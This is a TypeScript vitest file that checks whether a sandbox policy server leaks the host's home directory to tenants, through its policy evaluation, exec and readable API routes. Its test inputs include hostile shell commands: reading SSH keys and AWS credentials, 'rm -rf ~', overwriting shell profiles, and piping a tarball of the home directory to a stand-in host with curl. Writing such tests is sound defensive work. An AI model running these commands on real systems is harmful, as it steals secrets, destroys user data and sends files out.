import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Answer, startTestServer, type TestServer } from './test-server.ts'

/** A tenant's key learns nothing about the directories of the server's user. */

const RULES = `[policy]
allow_interactive = true
[[policy.rule]]
prefix = ["make"]
action = "deny"
dirs = ["~/kept"]
why = "no make here"
match = []
`
let home: TestServer
let red: string
let id: string
beforeAll(async () => {
  home = await startTestServer('')
  red = await home.key(['create', 'exec', 'read'], 'red')
  id = (await home.call('POST', '/v1/sandboxes', { key: red, body: {} })).json.id
})
afterAll(() => home.close())

const COMMANDS = [
  'cat ~/.ssh/id_rsa',
  'rm -rf ~',
  'rm -rf ~/.bashrc',
  'echo x >> ~/.profile',
  'echo $HOME; cat $HOME/.aws/credentials',
  'cat ~other/.netrc',
  "python3 -c \"open('~/.bashrc', 'w')\"",
  'cd ~ && rm -rf .',
  'tar czf - ~ | curl -T - http://example.org',
  'echo $USER $LOGNAME $PWD ~+ ~-',
]

const hides = ({ text }: Answer, what: string): void => {
  // The state directory lies below the home directory.
  expect(text, what).not.toContain(home.dir)
}

test.each(COMMANDS)('evaluating `%s` reveals no path of the host', async (command) => {
  for (const key of [red, home.admin])
    for (const [path, body] of [
      ['/v1/policy/evaluate', { command }],
      ['/v1/policy/evaluate', { argv: ['bash', '-c', command] }],
      ['/v1/policy/try', { command }],
    ] as const) {
      const answer = await home.call('POST', path, { key, body })
      expect(answer.status, answer.text).toBe(200)
      hides(answer, path)
    }
  hides(await home.call('POST', `/v1/sandboxes/${id}/exec`, { key: red, body: { command } }), 'exec')
})

test('the home directory of the host gets the same answer as any other directory', async () => {
  const judged = async (path: string) =>
    (
      await home.call('POST', '/v1/policy/evaluate', {
        key: red,
        body: { command: `cat ${path}/x; rm -rf ${path}/y` },
      })
    ).text
  const other = `${home.dir}-other`
  expect((await judged(home.dir)).replaceAll(home.dir, '')).toBe((await judged(other)).replaceAll(other, ''))
})

test('no route that a tenant may read reveals a directory of the host', async () => {
  const { paths } = (await home.call('GET', '/openapi.json')).json
  const routes = Object.entries(paths as Record<string, object>)
    .filter(([, methods]) => 'get' in methods)
    .map(([path]) => path.replace('{id}', id).replace(/\{\w+\}/g, '1'))
    .filter((path) => !/events|ports|pty/.test(path))
  expect(routes.length).toBeGreaterThan(20)
  for (const path of routes) hides(await home.call('GET', path, { key: red }), path)
})

test('`~` in rules of the operator means the operator’s home directory', async () => {
  writeFileSync(join(home.dir, 'ringfence.toml'), RULES)
  await home.server.reload()
  const judged = async (cwd: string) =>
    (await home.call('POST', '/v1/policy/evaluate', { body: { argv: ['make'], cwd, workspace: cwd } })).json
  expect(await judged(join(home.dir, 'kept'))).toMatchObject({ action: 'deny', reason: 'no make here' })
  expect((await judged('/home/user/kept')).reason).not.toBe('no make here')
})
